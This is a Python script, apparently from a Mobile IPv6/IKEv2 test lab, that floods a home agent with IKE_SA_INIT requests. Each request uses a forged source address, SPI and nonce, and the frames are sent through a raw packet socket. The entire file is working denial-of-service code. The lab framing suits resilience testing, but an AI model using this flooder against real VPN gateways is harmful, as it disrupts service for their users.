"""Floods a home agent with IKE_SA_INIT requests from forged addresses; runs inside the stranger's namespace.

Every request has a source address out of a /32, an SPI and a nonce of its own, and is otherwise what an honest node
sends. The frames leave by a packet socket, past the stranger's own IP stack. On SIGTERM, or at the end of its time, it
prints what it has sent.
"""

from __future__ import annotations

import argparse
import json
import random
import signal
import socket
import sys
import time
from collections.abc import Sequence
from ipaddress import IPv6Address

from control.ikev2.address import IKE_PORT
from control.ikev2.authentication import SUPPORTED_HASHES
from control.ikev2.dh import generate
from control.ikev2.message import ZERO_SPI, Header, Message, encode_message
from control.ikev2.numbers import DiffieHellmanGroup, ExchangeType, NotifyType, PayloadType
from control.ikev2.offers import IkeOffer
from control.ikev2.payloads import KeyExchangePayload, NoncePayload, NotifyPayload
from control.ikev2.proposals import DEFAULT_IKE_PROPOSALS
from control.mobile_node.upper_layers import build_udp

FLOOD_PREFIX = "3fff:bad::/32"
"""The forged sources: no other address of the laboratory lies in it (RFC 9637)."""

_PREFIX = bytes.fromhex("3fff0bad")
_ETHERTYPE_IPV6 = 0x86DD
_ETHERNET_SIZE = 14
_SOURCE = _ETHERNET_SIZE + 8
_CHECKSUM = _ETHERNET_SIZE + 40 + 6
_IKE = _ETHERNET_SIZE + 40 + 8
_IKE_HEADER_SIZE = 28
_NONCE_SIZE = 32
_ONES = 0xFFFF
_STEP_S = 0.002
_LARGEST_BURST_S = 0.02
_SOL_PACKET = 263  # linux/socket.h; the socket module has no name for it
_QDISC_BYPASS = 20  # PACKET_QDISC_BYPASS of linux/if_packet.h


def first_request() -> bytes:
    """An IKE_SA_INIT request such as an honest node sends."""
    payloads = (
        IkeOffer(DEFAULT_IKE_PROPOSALS).payload,
        KeyExchangePayload(DiffieHellmanGroup.CURVE25519, generate(DiffieHellmanGroup.CURVE25519).public),
        NoncePayload(bytes(_NONCE_SIZE)),
        NotifyPayload.signature_hash_algorithms(SUPPORTED_HASHES),
        NotifyPayload(NotifyType.FRAGMENTATION_SUPPORTED),
    )
    return encode_message(Message(Header(b"stranger", ZERO_SPI, ExchangeType.IKE_SA_INIT, True, False, 0), payloads))


class Forger:
    """Makes frames that differ in source address, SPI and nonce, checksums included.

    Args:
        request: the IKE_SA_INIT request they are copies of.
        home_agent: whom they go to.
        link: destination and source MAC address.
        seed: of what is random.
    """

    def __init__(self, request: bytes, home_agent: IPv6Address, link: tuple[bytes, bytes], seed: int) -> None:
        self._dice = random.Random(seed)
        self._nonce = _IKE + _nonce_offset(request)
        blank = bytearray(request)
        blank[0:8] = bytes(8)
        blank[self._nonce - _IKE : self._nonce - _IKE + _NONCE_SIZE] = bytes(_NONCE_SIZE)
        packet = build_udp(IPv6Address(0), IKE_PORT, home_agent, IKE_PORT, bytes(blank))
        self._frame = bytearray(b"".join(link) + _ETHERTYPE_IPV6.to_bytes(2, "big") + packet)
        self._rest = _ONES - int.from_bytes(self._frame[_CHECKSUM : _CHECKSUM + 2], "big")

    def frame(self) -> bytearray:
        """The next frame, good until the one after it."""
        frame, fresh = self._frame, self._dice.randbytes(12 + 8 + _NONCE_SIZE)
        source = _PREFIX + fresh[:12]
        frame[_SOURCE : _SOURCE + 16] = source
        frame[_IKE : _IKE + 8] = fresh[12:20]
        frame[self._nonce : self._nonce + _NONCE_SIZE] = fresh[20:]
        # 2^16 is 1 in the arithmetic of the checksum, so a whole number's remainder is the sum of its 16-bit words.
        total = (int.from_bytes(source + fresh[12:], "big") + self._rest) % _ONES
        frame[_CHECKSUM : _CHECKSUM + 2] = ((_ONES - total) or _ONES).to_bytes(2, "big")
        return frame


def _nonce_offset(request: bytes) -> int:
    kind, offset = request[16], _IKE_HEADER_SIZE
    while kind != PayloadType.NONCE:
        kind, offset = request[offset], offset + int.from_bytes(request[offset + 2 : offset + 4], "big")
    return offset + 4


def flood(sock: socket.socket, forger: Forger, rate_per_s: float, duration_s: float) -> tuple[int, int, float]:
    """Send for a time or until SIGTERM: requests sent, refused by the kernel, and seconds."""
    stopped = False

    def stop(number: int, frame: object) -> None:
        nonlocal stopped
        stopped = True

    signal.signal(signal.SIGTERM, stop)
    sent = refused = 0
    started = now = time.monotonic()
    begun = started
    while not stopped and now - started < duration_s:
        # What could not be sent in time is not made up for at once: that would be another kind of flood.
        begun = max(begun, now - _LARGEST_BURST_S)
        due = int((now - begun) * rate_per_s)
        begun += due / rate_per_s
        for _ in range(due):
            try:
                sock.send(forger.frame())
                sent += 1
            except OSError:
                refused += 1
        time.sleep(_STEP_S)
        now = time.monotonic()
    return sent, refused, now - started


def main(arguments: Sequence[str] | None = None) -> int:
    """Flood once."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--device", required=True)
    parser.add_argument("--router", required=True, help="MAC address of the next hop")
    parser.add_argument("--home-agent", type=IPv6Address, required=True)
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--duration", type=float, required=True, help="seconds, at most")
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args(arguments)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((options.device, _ETHERTYPE_IPV6))
        sock.setsockopt(_SOL_PACKET, _QDISC_BYPASS, 1)
        link = (bytes.fromhex(options.router.replace(":", "")), sock.getsockname()[4])
        forger = Forger(first_request(), options.home_agent, link, options.seed)
        sent, refused, seconds = flood(sock, forger, options.rate, options.duration)
    print(json.dumps({"sent": sent, "refused": refused, "duration_s": seconds}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
